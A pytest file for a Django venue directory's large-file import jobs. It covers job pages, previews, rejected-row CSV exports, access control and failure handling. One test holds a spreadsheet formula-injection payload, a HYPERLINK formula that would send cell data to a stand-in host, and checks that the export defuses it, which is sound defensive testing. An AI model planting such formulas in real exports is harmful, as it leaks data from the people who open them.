"""Imports too large for one request run as background jobs, with a page of their own."""

import csv
import io
import os

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse

from directory import import_jobs, importer
from directory.models import ImportJob, ImportJobStatus, PendingImport, Venue
from hubsite.settings.base import tasks_setting
from tests.directory.factories import import_file
from tests.factories import CommuneFactory, HubFactory, coordinator_of
from tests.worker import run_database_worker

pytestmark = pytest.mark.django_db

ADMIN_HOME = "/admin/"


@pytest.fixture
def small_inline_limit(settings):
    """Any file is "large": it goes through a job, as a 10 MB one does in production."""
    settings.DIRECTORY_IMPORT_INLINE_MAX_BYTES = 64


def rows(commune, count: int = 1, **fields) -> bytes:
    return import_file(*[commune] * count, id_prefix="import", name_prefix="Lieu importé", **fields)


def upload(content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile("lieux.json", content, content_type="application/json")


def post_file(client, data: bytes, action: str, **fields):
    return client.post(reverse("venues:import"), {"file": upload(data), action: "1", **fields})


def test_a_large_file_is_imported_by_a_job_whose_page_shows_the_result(
    client, coordinator, commune, small_inline_limit
):
    client.force_login(coordinator)

    response = post_file(client, rows(commune, 3), "import", source="tableur")

    job = ImportJob.objects.get()
    assert response.status_code == 302
    assert response.url == reverse("venues:import_job", args=[job.pk])
    assert (job.status, job.dry_run, job.user, job.created) == ("done", False, coordinator, 3)
    assert job.content == b""  # the file is not kept once read
    assert Venue.objects.filter(source="tableur").count() == 3
    page = client.get(response.url)
    assert page.status_code == 200
    text = page.content.decode()
    assert "3 lignes : 3 créées" in text
    assert 'http-equiv="refresh"' not in text


def test_a_large_preview_runs_as_a_job_then_is_confirmed_from_its_page(
    client, coordinator, commune, small_inline_limit
):
    client.force_login(coordinator)

    response = post_file(client, rows(commune, 2), "preview")

    preview = ImportJob.objects.get()
    assert (preview.status, preview.dry_run) == ("done", True)
    assert not Venue.objects.exists()
    page = client.get(response.url).content.decode()
    pending = PendingImport.objects.get(user=coordinator)
    assert f'value="{pending.token}"' in page

    confirmed = client.post(reverse("venues:import"), {"token": str(pending.token), "confirm": "1"})

    job = ImportJob.objects.exclude(pk=preview.pk).get()
    assert confirmed.url == reverse("venues:import_job", args=[job.pk])
    assert (job.status, job.dry_run, job.created) == ("done", False, 2)
    assert Venue.objects.count() == 2
    assert not PendingImport.objects.exists()
    # The preview's page no longer offers a file that was imported.
    assert 'name="token"' not in client.get(response.url).content.decode()


def test_a_running_job_page_refreshes_itself_and_announces_its_progress(client, coordinator):
    job = ImportJob.objects.create(
        user=coordinator,
        filename="gros.json",
        status=ImportJobStatus.RUNNING,
        rows_done=4000,
        rows_total=158000,
    )
    client.force_login(coordinator)

    text = client.get(reverse("venues:import_job", args=[job.pk])).content.decode()

    assert '<meta http-equiv="refresh" content="3">' in text
    assert 'role="status"' in text and 'aria-live="polite"' in text
    assert "4000 lignes vérifiées sur 158000 (2 %)" in text
    assert '<progress max="158000" value="4000">' in text


def test_a_job_page_lists_a_bounded_number_of_rejected_rows_and_the_csv_all_of_them(
    client, coordinator, commune, small_inline_limit
):
    client.force_login(coordinator)
    bad = import_jobs.REJECTED_SHOWN + 30

    post_file(client, rows(commune, bad, date_maj="hier"), "import")

    job = ImportJob.objects.get()
    assert job.rejected == bad
    page = client.get(reverse("venues:import_job", args=[job.pk])).content.decode()
    assert page.count("date_maj invalide") == import_jobs.REJECTED_SHOWN
    assert "Et 30 autres lignes rejetées." in page
    download = client.get(reverse("venues:import_job_rejected", args=[job.pk]))
    assert download["Content-Type"].startswith("text/csv")
    lines = list(csv.reader(io.StringIO(b"".join(download.streaming_content).decode("utf-8-sig"))))
    assert lines[0] == ["ligne", "id", "raison"]
    assert len(lines) == bad + 1
    assert lines[1] == ["1", "import-0", "date_maj invalide : « hier »"]


def test_the_rejected_rows_csv_is_defused_against_formulas(client, coordinator):
    job = ImportJob.objects.create(
        user=coordinator,
        filename="a.json",
        status=ImportJobStatus.DONE,
        rejected=1,
        rejected_rows=[[2, '=HYPERLINK("http://x?"&A1)', "@SUM(1)"]],
    )
    client.force_login(coordinator)

    download = client.get(reverse("venues:import_job_rejected", args=[job.pk]))

    text = b"".join(download.streaming_content).decode("utf-8-sig")
    cells = list(csv.reader(io.StringIO(text)))[1]
    assert cells == ["2", '\'=HYPERLINK("http://x?"&A1)', "'@SUM(1)"]


def test_another_coordinator_cannot_see_a_job_or_its_rejected_rows(client, coordinator, hub_b):
    job = ImportJob.objects.create(
        user=coordinator,
        filename="secret-du-hub-a.json",
        status=ImportJobStatus.DONE,
        rejected=1,
        rejected_rows=[[1, "x", "Lieu SECRET"]],
    )
    client.force_login(coordinator_of(hub_b))

    for name in ("venues:import_job", "venues:import_job_rejected"):
        response = client.get(reverse(name, args=[job.pk]))
        assert response.status_code == 302
        assert response.url == ADMIN_HOME
        assert b"SECRET" not in response.content
    # Positive control: whoever started it sees it.
    client.force_login(coordinator)
    assert client.get(reverse("venues:import_job", args=[job.pk])).status_code == 200


def test_a_job_that_fails_midway_writes_nothing_and_says_why_in_french(
    client, coordinator, commune, small_inline_limit, monkeypatch
):
    def fail(*args, **kwargs):
        raise RuntimeError("panne au milieu de l'import")

    monkeypatch.setattr(importer, "_log_entries", fail)
    client.force_login(coordinator)

    post_file(client, rows(commune, 3), "import")

    job = ImportJob.objects.get()
    assert job.status == ImportJobStatus.FAILED
    assert "rien n'a été enregistré" in job.error
    assert not Venue.objects.exists()
    page = client.get(reverse("venues:import_job", args=[job.pk])).content.decode()
    assert "rien n&#x27;a été enregistré" in page


def test_a_job_runs_once_whatever_delivers_its_task_again(coordinator, commune):
    job = import_jobs.start_import_job(
        user=coordinator, filename="a.json", source="", content=rows(commune), dry_run=False
    )
    Venue.objects.all().delete()

    import_jobs.run_import_job(job.pk)

    assert not Venue.objects.exists()


def test_the_import_command_refuses_a_file_over_its_size_limit(settings, tmp_path):
    settings.DIRECTORY_IMPORT_MAX_BYTES = 1024 * 1024
    path = tmp_path / "gros.csv"
    path.write_bytes(b" " * (1024 * 1024 + 1))

    with pytest.raises(CommandError, match="taille maximale"):
        call_command("import_venues", str(path), stdout=io.StringIO())
    with pytest.raises(CommandError, match="vide"):
        call_command("import_venues", str(path), "--max-mo", "2", stdout=io.StringIO())


@pytest.mark.skipif(
    not os.environ.get("DATABASE_URL", "").startswith("postgres"),
    reason="the worker shares the test database only on PostgreSQL",
)
# Committed data for the worker's own connection; the serialized rollback gives the tests that
# follow what migrations created (Wagtail's root page, content types).
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_the_database_worker_runs_a_queued_import_job(settings, home):
    settings.TASKS = tasks_setting("database")
    hub = HubFactory(name="Hub A", slug="hub-a")
    user = coordinator_of(hub)
    commune = CommuneFactory(departement=hub.departements.first())

    job = import_jobs.start_import_job(
        user=user, filename="a.json", source="tableur", content=rows(commune, 2), dry_run=False
    )
    assert job.status == ImportJobStatus.QUEUED  # waits for the worker

    run_database_worker()

    job.refresh_from_db()
    assert (job.status, job.created) == (ImportJobStatus.DONE, 2)
    assert Venue.objects.filter(source="tableur").count() == 2


def test_production_queues_tasks_for_the_worker_and_tests_run_them_at_once(tmp_path):
    from django.conf import settings

    from tests.hubsite.test_security import production_env, run

    shown = run(
        ["-c", "import hubsite.settings.production as s; print(s.TASKS['default']['BACKEND'])"],
        production_env(tmp_path),
    )

    assert shown.stdout.strip() == "django_tasks_db.DatabaseBackend"
    assert settings.TASKS["default"]["BACKEND"].endswith("ImmediateBackend")


def test_the_import_page_links_to_the_users_own_recent_jobs(client, coordinator, hub_a):
    mine = ImportJob.objects.create(user=coordinator, filename="le-mien.json")
    ImportJob.objects.create(user=coordinator_of(hub_a), filename="celui-du-collegue.json")
    client.force_login(coordinator)

    text = client.get(reverse("venues:import")).content.decode()

    assert reverse("venues:import_job", args=[mine.pk]) in text
    assert "celui-du-collegue" not in text


def test_an_overflowing_number_in_an_admin_preview_is_a_rejected_row(client, coordinator, commune):
    client.force_login(coordinator)
    data = rows(commune, 1, code_postal=float("inf"))  # written as JSON's Infinity

    response = post_file(client, data, "preview")

    assert response.status_code == 200
    assert "nombre illisible" in response.context["report"].rejected[0].message
